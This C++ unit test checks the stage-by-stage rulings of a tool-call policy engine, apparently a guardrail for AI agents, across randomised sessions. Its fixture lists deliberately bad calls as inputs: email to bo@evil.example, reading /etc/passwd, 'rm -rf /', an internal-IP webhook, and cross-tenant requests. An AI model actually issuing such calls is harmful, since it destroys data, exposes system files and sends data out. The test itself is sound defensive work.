// One stage of a whole judgement is what an engine of that stage alone rules.
#include <gtest/gtest.h>

#include <map>
#include <utility>
#include <vector>

#include "decide/office_fixture.h"
#include "metrics/judge_calls.h"
#include "metrics/part_names.h"
#include "metrics/record_fixture.h"

namespace yett {
namespace {

using metrics_test::Draws;

Engine only(Stage stage) {
  Engine engine = Engine::strict();
  std::erase_if(engine.rules, [stage](const Rule& rule) { return rule.stage != stage; });
  return engine;
}

/// Calls of the office of which some are as they should be, and each of the others is wrong in one thing or more.
std::vector<ToolCall> calls() {
  std::vector<ToolCall> calls = good_calls();
  for (const auto& [tool, arguments] : std::vector<std::pair<std::string, std::string_view>>{
           {"nobody", "{}"},
           {"draft", R"({"id":"T-1"})"},
           {"read_ticket", R"({"id":"T-1","more":1})"},
           {"read_ticket", R"({"id":"T-1","org":"globex"})"},
           {"search_customers", R"({"query":"x","tenant_id":"globex"})"},
           {"send_email", R"({"to":"bo@evil.example","subject":"s","body":"b"})"},
           {"send_email", R"({"to":"bo@evil.example","subject":"s","body":"b","more":1})"},
           {"send_email", R"({"subject":"s"})"},
           {"call_webhook", R"({"url":"http://10.0.0.1/","body":"b","tenant":"globex"})"},
           {"read_file", R"({"path":"/etc/passwd"})"},
           {"run_command", R"({"argv":["rm","-rf","/"]})"},
           {"pay", R"({"payee":"ACC-2","amount":5,"account_id":"globex"})"},
           {"find_orders", R"({"filter":{"org":"globex","text":"x"}})"},
       }) {
    calls.push_back(call_of(tool, arguments));
  }
  return calls;
}

void shuffle(Office& office, Draws& draws) {
  office.session = office_session();
  office.state = SessionState::of_new_run();
  office.session.permissions = builtin_permission_sets()[draws.one_in(2) ? 0 : draws.below(5)];
  if (draws.one_in(6)) office.session.tenant = std::nullopt;
  if (draws.one_in(6)) office.session.allowed_tenants = {"globex"};
  if (draws.one_in(8)) office.state.suspension = Suspension::Suspended;
  office.now = draws.one_in(8) ? office.session.expires_at : kOfficeHours;
  office.state.taken_in.insert(SourceSet::from_bits(static_cast<std::uint8_t>(draws.below(8))));
  office.state.private_seen = draws.one_in(2);
  constexpr FlowTerms kFlows[] = {FlowTerms::Deny, FlowTerms::Confirm, FlowTerms::Allow};
  office.policy.flow = kFlows[draws.below(3)];
  office.evidence.last_outcome = draws.one_in(4) ? LastOutcome::Unknown : LastOutcome::None;
  office.evidence.tool = draws.one_in(8) ? Observation::Changed : Observation::NotLooked;
}

TEST(StageRuling, IsWhatAnEngineOfThatStageAloneRules) {
  std::vector<std::pair<Stage, Engine>> engines;
  for (const Stage stage : kAllStages) engines.emplace_back(stage, only(stage));
  std::map<std::pair<Stage, Verdict>, int> seen;
  Office office;
  Draws draws(1);
  for (int round = 0; round < 150; ++round) {
    shuffle(office, draws);
    for (const ToolCall& call : calls()) {
      const Decision decision = office.judge(call);
      for (const auto& [stage, engine] : engines) {
        const Verdict alone = office.judge(call, engine).verdict();
        EXPECT_EQ(stage_ruling(decision, stage, call.readability), alone)
            << call.tool << ", " << stage_part_name(stage);
        ++seen[{stage, alone}];
      }
    }
  }
  for (const Stage stage : kAllStages) {
    EXPECT_GT((seen[{stage, Verdict::Allow}]), 0) << stage_part_name(stage);
    const bool is_silent = stage == Stage::Reading;  // of calls that can be read
    const int spoken = seen[{stage, Verdict::Deny}] + seen[{stage, Verdict::Confirm}];
    EXPECT_EQ(spoken > 0, !is_silent) << stage_part_name(stage);
  }
}

}  // namespace
}  // namespace yett
